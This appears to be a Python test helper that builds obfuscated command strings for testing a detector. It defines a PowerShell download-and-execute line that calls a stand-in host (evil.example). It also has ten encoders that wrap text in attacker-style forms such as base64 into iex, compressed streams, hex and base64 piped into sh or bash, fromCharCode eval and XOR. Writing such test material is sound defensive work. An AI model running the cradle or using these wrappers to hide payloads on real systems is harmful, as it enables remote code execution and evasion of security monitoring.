"""Encoders of the tests: each hides a text the way attackers do, by one's own hand."""

from __future__ import annotations

import base64
import bz2
import gzip
import zlib
from collections.abc import Callable

COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def b64_utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def b64_bytes(raw: bytes) -> str:
    return base64.b64encode(raw).decode()


def deflated(text: str) -> bytes:
    stream = zlib.compressobj(9, zlib.DEFLATED, -15)
    return stream.compress(text.encode()) + stream.flush()


def option(text: str) -> str:
    return f"powershell.exe -NoP -enc {b64_utf16(text)}"


def call(text: str) -> str:
    return f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(text)}')))"


def gzipped(text: str) -> str:
    body = b64_bytes(gzip.compress(text.encode()))
    return f"New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('{body}'))"


def deflate(text: str) -> str:
    body = b64_bytes(deflated(text))
    return f"New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{body}'))"


def bzipped(text: str) -> str:
    return f"echo {b64_bytes(bz2.compress(text.encode()))} | base64 -d | bunzip2 | sh"


def hexed(text: str) -> str:
    return f"echo {text.encode().hex()} | xxd -r -p | sh"


def shell_pipe(text: str) -> str:
    return f"echo {b64(text)} | base64 -d | bash"


def codes(text: str) -> str:
    return f"eval(String.fromCharCode({','.join(str(ord(c)) for c in text)}))"


def hex_codes(text: str) -> str:
    return f"[byte[]]$b = {','.join(hex(ord(c)) for c in text)}"


def xored(text: str) -> str:
    body = b64_bytes(bytes(byte ^ 0x5A for byte in text.encode()))
    return f"$d=[Convert]::FromBase64String('{body}')|%{{$_ -bxor 0x5A}}"


ENCODERS: tuple[Callable[[str], str], ...] = (
    option,
    call,
    gzipped,
    deflate,
    bzipped,
    hexed,
    shell_pipe,
    codes,
    hex_codes,
    xored,
)
"""Every one needs ASCII text and gives a command that carries it."""
